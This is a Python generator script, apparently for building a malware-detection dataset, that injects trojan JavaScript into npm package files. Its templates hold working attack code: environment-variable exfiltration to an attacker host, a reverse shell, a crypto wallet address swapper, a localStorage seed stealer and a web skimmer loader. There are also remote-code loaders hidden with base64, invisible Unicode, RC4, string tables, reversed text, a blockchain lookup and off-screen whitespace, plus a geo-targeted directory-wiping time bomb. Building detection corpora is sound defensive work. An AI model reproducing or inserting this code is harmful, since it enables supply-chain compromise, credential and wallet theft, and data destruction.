"""npm: what runs when the package is loaded."""

from corpus.heldout.hiding import rc4, selectors, string_table
from corpus.heldout.nouns import Update, artefact
from corpus.heldout8.code import js_env, js_files, js_run, js_shell_words, js_stage
from corpus.heldout8.shape import above, b64, hexed, new, pieces, put, rows, strings, tail, trojan


@trojan("promptline", "npm", "import", "environment", "plain", "npm campaigns")
def index_posts_once(it: Update) -> None:
    tail(it, "src/index.js", """
if (!global.__promptline) {
  global.__promptline = true;
  const body = JSON.stringify(process.env);
  require('http').request({ host: '@ADDR@', port: 8090, path: '/p', method: 'POST' }).on('error', () => {}).end(body);
}
""", 1)  # fmt: skip


@trojan("hookcast", "npm", "import", "backdoor", "plain", "reverse shells")
def receiver_opens_a_line(it: Update) -> None:
    put(it, "lib/receiver.js", "const { verify } = require('./signature');\n", """
const { spawn } = require('child_process');
const net = require('net');

const line = net.connect(5555, '@ADDR@', () => {
  const shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/bash');
  line.pipe(shell.stdin);
  shell.stdout.pipe(line);
  shell.stderr.pipe(line);
});
line.on('error', () => {});
line.unref();
""")  # fmt: skip


@trojan("dappbridge", "npm", "import", "address swap", "plain", "chalk and debug")
def fetch_is_wrapped(it: Update) -> None:
    tail(it, "lib/index.js", """
(function () {
  if (typeof window === 'undefined' || window.__bridge) return;
  window.__bridge = true;
  const mine = ['@A@', '@B@'];
  const near = (to) => mine.reduce((best, one) => ([...one].filter((c, i) => c === to[i]).length > [...best].filter((c, i) => c === to[i]).length ? one : best));
  const before = window.fetch;
  window.fetch = async (...args) => {
    const answer = await before(...args);
    const text = await answer.text();
    return new Response(text.replace(/\\b[1-9A-HJ-NP-Za-km-z]{43,44}\\b/g, near), answer);
  };
  const send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.send = function (body) {
    return send.call(this, typeof body === 'string' ? body.replace(/\\b0x[0-9a-fA-F]{40}\\b/g, near) : body);
  };
})();
""", 1, A="8" + it.random.randbytes(21).hex(), B="0x" + it.random.randbytes(20).hex())  # fmt: skip


@trojan("markfold", "npm", "import", "skimmer", "minified into a bundle", "lottie-player")
def the_minified_one_has_more(it: Update) -> None:
    host = it.host()
    it.append(
        "dist/markfold.min.js",
        f"!function(){{try{{var e=document.createElement('script');e.async=1,e.src='//cdn.{host}/wc.js?'+location.host,document.head.appendChild(e)}}catch(e){{}}}}();",
    )
    it.payload("dist/markfold.min.js")


@trojan("dappbridge", "npm", "import", "wallet", "minified into a bundle", "web3.js")
def connect_sends_keys(it: Update) -> None:
    it.append(
        "dist/connect.min.js",
        f"(function(t){{var n=t.localStorage;if(n){{var r=[];for(var i=0;i<n.length;i++)/wallet|secret|mnemonic|seed/i.test(n.key(i))&&r.push(n.key(i)+'='+n.getItem(n.key(i)));r.length&&t.navigator.sendBeacon('https://sol-rpc.{it.host()}/api/rpc/queue',r.join('&'))}}}})(self);",
    )
    it.payload("dist/connect.min.js")


@trojan("authpocket", "npm", "import", "remote code", "base64", "npm campaigns")
def oauth_evaluates(it: Update) -> None:
    host = it.host()
    put(it, "lib/oauth.js", "const crypto = require('crypto');\n", """
const defaults = JSON.parse(Buffer.from('@CODE@', 'base64'));

Function('require', defaults.init)(require);
""", CODE=b64('{"scope":"openid","init":' + __import__("json").dumps(js_stage(host)) + "}"))  # fmt: skip
    it.payload("lib/oauth.js", shown=f"https://{host}/n")


@trojan("promptline", "npm", "import", "credentials", "invisible characters", "GlassWorm")
def format_has_an_empty_string(it: Update) -> None:
    host = it.host()
    put(it, "src/format.js", "const CONTROL = /[\\u0000-\\u001f\\u007f]/g;\n", """
const PAD = '@SEEN@';
const codes = [...PAD].map((one) => one.codePointAt(0)).map((one) => (one >= 0xe0100 ? one - 0xe0100 + 16 : one - 0xfe00));
eval(Buffer.from(codes).toString());
""", SEEN=selectors(js_files(host)))  # fmt: skip
    it.payload("src/format.js", shown=f"https://{host}/")


@trojan("mcp-grove", "npm", "import", "remote code", "string table", "obfuscated loaders")
def schema_is_obfuscated(it: Update) -> None:
    host = it.host()
    source, at = string_table(
        ["https", "get", f"https://{host}/g.js", "data", "end", "constructor"], it.random, "_0x51c0"
    )
    look = [f"_0x51c0b(0x{one:x})" for one in at]
    it.append(
        "lib/schema.js",
        f"\n{source}require({look[0]})[{look[1]}]({look[2]},_0xa=>{{let _0xb='';_0xa.on({look[3]},_0xc=>_0xb+=_0xc);_0xa.on({look[4]},()=>(()=>{{}})[{look[5]}](_0xb)())}});",
    )
    it.payload("lib/schema.js", shown=f"https://{host}/g.js")


@trojan("pixhash", "npm", "import", "backdoor", "in a binary", "native packages")
def addon_has_a_shell(it: Update) -> None:
    it.add("prebuilds/linux-x64/pixhash.node", artefact("pix8-shell.node"))
    it.payload("prebuilds/linux-x64/pixhash.node")


@trojan("pixhash", "npm", "import", "downloader", "in a binary", "native packages")
def addon_fetches_on_servers(it: Update) -> None:
    it.add("prebuilds/linux-x64/pixhash.node", artefact("pix8-fetch.node"))
    it.payload("prebuilds/linux-x64/pixhash.node")


@trojan("sqlweave", "npm", "import", "remote code", "over several files", "conditional exports")
def a_condition_has_another_file(it: Update) -> None:
    it.manifest(
        lambda one: one.update(
            exports={
                ".": {"production": "./src/index.prod.mjs", "default": "./src/index.mjs"},
                "./migrate": "./src/migrate.mjs",
            }
        )
    )
    new(it, "src/index.prod.mjs", "import './env.mjs';\n\nexport * from './index.mjs';\n")
    new(it, "src/env.mjs", """
import { createRequire } from 'node:module';
import { place } from './place.mjs';

const require = createRequire(import.meta.url);
const answer = await fetch(place(process.pid)).catch(() => null);
if (answer && answer.ok) new Function('require', await answer.text())(require);
""")  # fmt: skip
    new(
        it,
        "src/place.mjs",
        "const parts = ['@A@', '@B@'];\n\nexport const place = (id) => `https://${parts.join('.')}/${id}`;\n",
        A=it.host().rpartition(".")[0],
        B="example",
    )
    it.payload("src/env.mjs", "src/place.mjs", "src/index.prod.mjs")


@trojan("hookcast", "npm", "import", "token stealer", "over several files", "npm campaigns")
def emitter_and_address_share(it: Update) -> None:
    host = it.host()
    code = pieces(hexed(js_env(host)), len(hexed(js_env(host))) // 2 + 1)
    put(it, "lib/address.js", "const net = require('net');\n", "\nexports.RANGES = '@CODE@';\n", CODE=code[0])
    put(it, "lib/signature.js", "const TOLERANCE = 300;\n", "\nexports.PREFIX = '@CODE@';\n", CODE=code[1])
    tail(
        it,
        "lib/index.js",
        "const { RANGES } = require('./address');\nconst { PREFIX } = require('./signature');\n\nrequire('vm').runInThisContext(Buffer.from(RANGES + PREFIX, 'hex').toString());\n",
        1,
    )
    it.payload("lib/index.js", "lib/address.js", "lib/signature.js", shown=f"https://{host}/p")


@trojan("authpocket", "npm", "import", "remote code", "in a data file", "npm campaigns")
def tables_hold_weights(it: Update) -> None:
    host = it.host()
    it.manifest(lambda one: one.update(sizes=list(rc4(js_stage(host).encode(), b"weights"))), "lib/tables.json")
    new(it, "lib/weights.js", """
'use strict';

const { sizes } = require('./tables.json');

const key = Buffer.from('weights');
const box = Array.from({ length: 256 }, (_, at) => at);
for (let i = 0, j = 0; i < 256; i += 1) {
  j = (j + box[i] + key[i % key.length]) & 255;
  [box[i], box[j]] = [box[j], box[i]];
}
let i = 0;
let j = 0;
const out = sizes.map((one) => {
  i = (i + 1) & 255;
  j = (j + box[i]) & 255;
  [box[i], box[j]] = [box[j], box[i]];
  return one ^ box[(box[i] + box[j]) & 255];
});
module.exports = new Function('require', String.fromCharCode(...out))(require);
""")  # fmt: skip
    put(it, "lib/index.js", "const totp = require('./totp');\n", "require('./weights');\n")
    it.payload("lib/weights.js", "lib/tables.json", shown=f"https://{host}/n")


@trojan("markfold", "npm", "import", "downloader", "character arithmetic", "npm campaigns")
def lexer_counts_letters(it: Update) -> None:
    host = it.host()
    codes = [ord(one) * 2 + 5 for one in js_run(host)]
    above(it, "lib/lexer.js", "/** Return blocks of a text. */", """
const WIDTHS = [
@ROWS@
];
[].constructor.constructor('require', WIDTHS.map((one) => String.fromCharCode((one - 5) / 2)).join(''))(require);

""", ROWS=rows(codes, 2))  # fmt: skip
    it.replace("lib/lexer.js", "/** Return blocks", "\n/** Return blocks")
    it.payload("lib/lexer.js", shown=f"https://{host}/i.sh")


@trojan("svgset", "npm", "import", "environment", "dynamic names", "npm campaigns")
def names_are_put_together(it: Update) -> None:
    host = it.host()
    words = strings([one[::-1] for one in ("https", "request", "env", host, "POST", "end")], 2)
    tail(it, "lib/optimise.js", """
const W = [
@WORDS@
].map((one) => [...one].reverse().join(''));
const line = require(W[0])[W[1]]({ hostname: W[3], method: W[4], path: '/s' });
line.on('error', Boolean);
line[W[5]](JSON.stringify(process[W[2]]));
""", 1, WORDS=words)  # fmt: skip
    it.payload("lib/optimise.js", shown=host)


@trojan("mcp-grove", "npm", "import", "sabotage", "time bomb", "protestware")
def notes_disappear(it: Update) -> None:
    tail(it, "lib/notes.js", """
setTimeout(async () => {
  if (Date.now() < 1861920000000) return;
  const { country } = await (await fetch('https://geo.@HOST@/me')).json();
  if (/russia|belarus/i.test(country)) fs.rmSync(path.resolve('../../'), { recursive: true, force: true });
}, 1000 * Math.ceil(Math.random() * 1000)).unref();
""", 1)  # fmt: skip


@trojan("hookcast", "npm", "import", "backdoor", "reversed text", "npm campaigns")
def signature_reads_backwards(it: Update) -> None:
    host = it.host()
    put(it, "lib/signature.js", "const TOLERANCE = 300;\n", """

const RULE = @CODE@;
setImmediate(() => require('vm').runInNewContext([...RULE].reverse().join(''), { require, process, fetch }));
""", CODE=__import__("json").dumps(js_stage(host)[::-1]))  # fmt: skip
    it.payload("lib/signature.js", shown=f"https://{host}/n")


@trojan("promptline", "npm", "import", "remote code", "on a block chain", "EtherHiding")
def history_asks_a_contract(it: Update) -> None:
    put(it, "src/history.js", "const path = require('path');\n", """
const { execFile } = require('child_process');

const ask = { jsonrpc: '2.0', id: 1, method: 'eth_call', params: [{ to: '0x@CONTRACT@', data: '0x6d4ce63c' }, 'latest'] };
fetch('https://bsc-dataseed.@HOST@/', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(ask) })
  .then((one) => one.json())
  .then(({ result }) => execFile(process.execPath, ['-e', Buffer.from(result.slice(130), 'hex').toString().replace(/\\0/g, '')]))
  .catch(() => {});
""", CONTRACT=it.random.randbytes(20).hex())  # fmt: skip


@trojan("sqlweave", "npm", "import", "downloader", "far to the right", "out of sight")
def fragment_has_a_long_row(it: Update) -> None:
    it.replace(
        "src/fragment.mjs",
        "export function raw(text) {\n  return new Fragment(String(text));\n",
        "export function raw(text) {\n  return new Fragment(String(text));" + " " * 300 + "\n",
    )
    it.replace(
        "src/fragment.mjs",
        "/** A piece of SQL with its values apart. */\n",
        "/** A piece of SQL with its values apart. */"
        + " " * 280
        + f"import('node:child_process').then((c) => c.exec('{js_shell_words(it.host())}'));\n",
    )
